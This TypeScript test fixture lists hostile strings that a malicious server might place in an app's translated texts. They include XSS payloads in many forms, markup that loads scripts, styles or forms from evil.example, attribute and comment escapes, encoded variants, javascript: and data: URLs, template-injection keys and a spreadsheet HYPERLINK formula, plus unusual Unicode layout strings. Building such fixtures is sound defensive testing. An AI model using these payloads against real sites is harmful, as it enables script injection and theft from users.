/**
 * What a hostile server writes into every text that it sends (faults SR-107 and SR-108). It covers markup
 * that runs, markup that loads, escapes from an attribute, addresses that run, and the placeholders and keys
 * of the app's own texts. Any text that ran would set `hit` on the window.
 */

const run = 'window.hit=1';

/** Markup that browsers run when it is turned into elements. */
const scripts: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script type="module">import "https://evil.example/x.js"</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</script><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}" `,
  `<img/src/onerror=${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<svg onload=${run}>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}/>#x"></svg>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<x-element onclick=${run} tabindex=1 autofocus onfocus=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
];

/** Markup that loads from, or links to, a foreign server. */
const loads: readonly string[] = [
  '<img src="https://evil.example/x.png">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(//evil.example/x)}</style>',
  '<div style="background:url(//evil.example/x)">x</div>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>Sign in</button></form>',
  '<a href="https://evil.example/" ping="https://evil.example/p">click</a>',
  '<table background="//evil.example/x">',
  '![x](https://evil.example/x.png) [click](javascript:window.hit=1)',
];

/** Escapes from an attribute, a string of a script or a comment, and texts that are encoded markup. */
const escapes: readonly string[] = [
  `" onmouseover="${run}" x="`,
  `' autofocus onfocus='${run}`,
  `"><img src=x onerror=${run}>`,
  `'-${run}-'`,
  `\`-${run}-\``,
  `\\";${run};//`,
  `*/${run}/*`,
  `--><script>${run}</script><!--`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<\u200Bscript>${run}</script>`,
  `\u2028<script>${run}</script>\u2029`,
];

/** Addresses that run when something links to them. */
const addresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}//https://northgate.example/`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `//evil.example/x`,
];

/** What the app's own texts would interpret: placeholders, nesting, their markup, and keys (SR-108). */
const placeholders: readonly string[] = [
  '{{x}}',
  '{{name}} {{count}} {{organization}}',
  '$t(session.signOut)',
  '$t(app.name, {"count": 1})',
  '<0>bold</0> <1/>',
  '%s %d %1$s ${x} #{x} {0}',
  'app.name',
  '__proto__',
  'constructor',
  `{{constructor.constructor('${run}')()}}`,
  '=HYPERLINK("//evil.example/x","x")',
];

export const hostileTexts: readonly string[] = [
  ...scripts,
  ...loads,
  ...escapes,
  ...addresses,
  ...placeholders,
];

/** What a layout must contain, without affecting its surroundings (faults SR-113). */
export const unusualTexts: readonly string[] = [
  '\u202Egnitoof no\u202C \u2067\u05D0\u05D1\u05D2',
  '\u202E never closed',
  'مهندسة اختبار أولى',
  'zero\u200Bwidth\u200D\uFEFFjoiner\u2060',
  `Z${'\u0334\u0322\u0489'.repeat(60)}`,
  '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽',
  'a\uD800b\uDC00c',
  'x'.repeat(10_000),
];
